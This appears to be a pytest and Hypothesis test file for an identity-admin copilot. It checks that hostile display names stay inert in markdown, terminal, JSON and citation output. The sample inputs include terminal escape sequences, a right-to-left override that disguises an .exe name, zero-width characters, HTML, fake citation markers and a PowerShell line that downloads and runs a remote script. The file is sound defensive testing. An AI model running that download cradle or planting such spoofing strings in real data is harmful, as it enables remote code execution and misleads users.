"""Hostile tenant text stays inert: in markdown, the terminal, JSON, citations and follow-ups.

A displayName may hold terminal control sequences, bidirectional overrides, zero-width
characters, newlines, HTML or text that looks like a citation marker. Hypothesis feeds arbitrary
Unicode names through every skill, the composer and the grounding check; the answer must be
grounded, and no such character may reach a reader unmarked.
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from rich.console import Console

import idpilot.cli.ask as ask_command
from idpilot.copilot.answer import Answer, citation_markers
from idpilot.copilot.composer import CitationBook, compose, escape_markdown
from idpilot.copilot.engine import Copilot, answer_evidence
from idpilot.copilot.grounding import plain_text, ungrounded_entities
from idpilot.copilot.inert import inert_json, inert_text, is_invisible
from idpilot.skills import default_registry
from idpilot.sources.demo import generate_demo_tenant
from idpilot.sources.ingest import ingest_folder
from idpilot.store import Store

MALLORY = "Mallory \x1b]0;PWNED\x07\x1b[31mRED"
HOSTILE_EXAMPLES = (
    MALLORY,
    "Admin \u202egnp.exe",
    "Eve\u200bThompson\u200d\ufeff",
    "Line one\nLine two\r\n# Heading",
    "Fake Cite [1]",
    "Helpdesk <b>Team</b>",
    "[click](http://evil.example) *bold* `code` | cell &#91;2&#93;",
    "\u2066isolate\u2069 \U000e0041tag \u00adsoft",
)
GLOBAL_ADMINISTRATOR = "Global Administrator"
# Characters an inert text may still hold: printable text; "\n" only between composed lines.
_MARKDOWN_ESCAPED = re.compile(r"\\[\\`*_\[\]<>|#!~&]")

names = st.text(st.characters(codec="utf-8"), max_size=40) | st.builds(
    "".join, st.lists(st.sampled_from([*HOSTILE_EXAMPLES, "x", " ", "[3]", "\\"]), max_size=4)
)


def _visible(text: str) -> bool:
    return not any(is_invisible(char) for char in text if char not in "\n")


# -- the pure functions -----------------------------------------------------------------------


@settings(deadline=None)  # a busy machine must not fail a property
@given(names)
@example(MALLORY)
def test_inert_text_keeps_no_control_bidi_or_invisible_character(name: str) -> None:
    shown = inert_text(name)
    assert "\n" not in shown and _visible(shown)
    assert inert_text(shown) == shown  # nothing left to neutralise


@settings(deadline=None)
@given(names)
@example("Fake Cite [1]")
@example("Helpdesk <b>Team</b>")
def test_escaped_text_reads_as_the_inert_text_and_holds_no_marker(name: str) -> None:
    escaped = escape_markdown(name)
    assert plain_text(escaped) == inert_text(name)
    assert citation_markers(f"{escaped} [1]") == [1]  # only the composer's own marker counts
    assert "<" not in _MARKDOWN_ESCAPED.sub("", escaped)  # no raw HTML for a renderer


@settings(deadline=None)
@given(st.dictionaries(names, names | st.integers() | st.lists(names), max_size=4))
def test_inert_json_is_the_same_data_and_prints_no_invisible_character(data: dict) -> None:
    for text in (json.dumps(data, ensure_ascii=False), json.dumps(data, indent=2)):
        safe = inert_json(text)
        assert json.loads(safe) == data
        assert _visible(safe)


# -- every skill over a tenant whose names are hostile ----------------------------------------


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, dict[str, Any]]]:
    """A small demo tenant (built once) and its answer key."""
    folder = tmp_path_factory.mktemp("hostile") / "snapshot"
    summary = generate_demo_tenant(folder, seed=3, users=60, days=2)
    store = Store.open(folder.parent / "store.duckdb")
    ingest_folder(store, folder)
    yield store, json.loads(Path(summary.scenarios_path).read_text())
    store.close()


_RENAMED = ("users", "groups", "servicePrincipals", "conditionalAccessPolicies")


def _rename_everything(store: Store, name: str) -> None:
    """Give every user, group, service principal and policy the same hostile displayName."""
    for table in _RENAMED:
        store.con.execute(
            f"UPDATE {table} SET displayName = $name, "
            "raw = json_merge_patch(raw, json_object('displayName', $name))",
            {"name": name},
        )


def _first(store: Store, sql: str, **params: str) -> str:
    row = store.con.execute(sql, params).fetchone()
    assert row is not None, sql
    return str(row[0])


def _skill_params(store: Store, key: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """Parameters for every built-in skill, naming objects by id (names are what we vary)."""
    people = key["personas"]
    alice, bob, eve = (people[p]["id"] for p in ("alice_johnson", "bob", "eve"))
    group = _first(store, "SELECT group_id FROM group_members GROUP BY 1 ORDER BY count(*) DESC")
    dynamic = _first(store, "SELECT id FROM groups WHERE membershipRule IS NOT NULL ORDER BY id")
    app = _first(store, "SELECT appId FROM signIns GROUP BY 1 ORDER BY count(*) DESC")
    policy = _first(store, "SELECT id FROM conditionalAccessPolicies ORDER BY id")
    ip = _first(store, "SELECT ipAddress FROM signIns GROUP BY 1 ORDER BY count(*) DESC")
    member = _first(
        store, "SELECT member_id FROM group_members WHERE group_id = $g ORDER BY 1", g=group
    )
    return {
        "actor_activity": {"user": eve},
        "app_details": {"application": app},
        "audit_history": {"user": eve},
        "ca_coverage": {},
        "ca_whatif": {"user": alice, "app": app},
        "detect_threats": {},
        "docs_answer": {"question": "how do I set up number matching?"},
        "explain_error": {"code": 50126},
        "group_details": {"group": group},
        "group_rule": {"group": dynamic},
        "kql_tables": {},
        "kql_write": {
            "question": {"kind": "signIns", "table": "SigninLogs", "group_by": ["app"], "top": 3}
        },
        "lifecycle_workflows": {},
        "list_groups": {},
        "list_users": {},
        "membership_path": {"user": member, "group": group},
        "policy_changes": {"policy": policy},
        "policy_draft": {
            "drafted_policy": {"text": "require MFA for everyone", "built_in_controls": ["mfa"]}
        },
        "posture_assessment": {},
        "report": {"report_kind": "risk", "audience": "helpdesk"},
        "risky_user_summary": {"user": bob},
        "risky_users": {},
        "role_holders": {"role": GLOBAL_ADMINISTRATOR},
        "script_analysis": {
            "script": f"$g = Get-MgServicePrincipal -Filter \"appId eq '{app}'\"\n"
            f"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')"
        },
        "signin_summary": {},
        "signin_troubleshoot": {"user": alice},
        "tenant_changes": {},
        "user_details": {"user": alice},
        "user_roles": {"user": eve},
        "who_changed": {"user": eve},
        "workload_identity_risk": {},
    }


def _terminal_output(answer: Answer, monkeypatch: pytest.MonkeyPatch) -> str:
    screen = io.StringIO()
    monkeypatch.setattr(ask_command, "console", Console(file=screen, width=100))
    ask_command.print_answer(answer)
    return screen.getvalue()


def _check_answer(answer: Answer, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """What a reader of the markdown, the terminal or the JSON can see."""
    assert _visible(answer.answer), answer.answer
    assert sorted(set(citation_markers(answer.answer))) == [c.n for c in answer.citations]
    for text in [c.label for c in answer.citations] + answer.followups + answer.next_steps:
        assert "\n" not in text and _visible(text)
    shown = _terminal_output(answer, monkeypatch)
    assert _visible(shown), shown
    document = answer.to_json()
    assert _visible(document)
    assert Answer.model_validate_json(document) == answer
    if len(inert_text(name)) >= 4 and "\\" not in name:
        assert escape_markdown(name) in answer.answer  # shown, escaped, not dropped


def test_every_skill_has_parameters(demo: tuple[Store, dict[str, Any]]) -> None:
    store, key = demo
    assert set(_skill_params(store, key)) == {s.name for s in default_registry().all()}


@settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=names)
@example(name=MALLORY)
@example(name="Fake Cite [1]")
@example(name="Helpdesk <b>Team</b>")
@example(name="Admin \u202egnp.exe \u200b\n")
def test_every_skill_answers_hostile_names_grounded_and_inert(
    demo: tuple[Store, dict[str, Any]], monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    store, key = demo
    _rename_everything(store, name)
    registry = default_registry()
    named_somewhere = False
    for skill, params in _skill_params(store, key).items():
        result = registry.get(skill).run(store, params)
        book = CitationBook(result.evidence)
        body = compose(result, book)
        evidence = answer_evidence([result], book.cited())
        assert ungrounded_entities(store, body, evidence) == [], skill
        answer = Answer(
            prompt=skill,
            answer=body,
            citations=book.citations(),
            evidence=evidence,
            next_steps=[escape_markdown(s.action) for s in result.next_steps],
            followups=[escape_markdown(f) for f in result.followups],
            session_id="test",
        )
        _check_answer(answer, "", monkeypatch)
        named_somewhere |= any(escape_markdown(name) in c.label for c in answer.citations)
    assert named_somewhere  # the hostile name was cited somewhere, escaped


@pytest.mark.parametrize("name", HOSTILE_EXAMPLES)
@pytest.mark.parametrize("prompt", ["Who are the global admins?", "List all users"])
def test_the_reported_prompts_answer_through_the_copilot(
    demo: tuple[Store, dict[str, Any]], monkeypatch: pytest.MonkeyPatch, prompt: str, name: str
) -> None:
    store, _ = demo
    _rename_everything(store, name)
    answer = Copilot(store).ask(prompt)
    _check_answer(answer, name, monkeypatch)


def test_citation_labels_carry_the_escaped_text_of_the_answer(
    demo: tuple[Store, dict[str, Any]],
) -> None:
    store, _ = demo
    _rename_everything(store, "Helpdesk <b>Team</b>")
    answer = Copilot(store).ask("Who are the global admins?")
    assert "Helpdesk \\<b\\>Team\\</b\\>" in answer.answer
    users = [c.label for c in answer.citations if c.kind == "user"]
    assert users and all("Helpdesk \\<b\\>Team\\</b\\>" in label for label in users)
    document = json.loads(answer.to_json())
    assert "<b>" not in document["answer"]
    assert not any("<b>" in c["label"] for c in document["citations"])


@pytest.mark.parametrize("name", HOSTILE_EXAMPLES)
def test_grounding_still_catches_a_hostile_name_nothing_cites(
    demo: tuple[Store, dict[str, Any]], name: str
) -> None:
    store, _ = demo
    _rename_everything(store, name)
    assert ungrounded_entities(store, f"See {escape_markdown(name)}.", []) == [inert_text(name)]
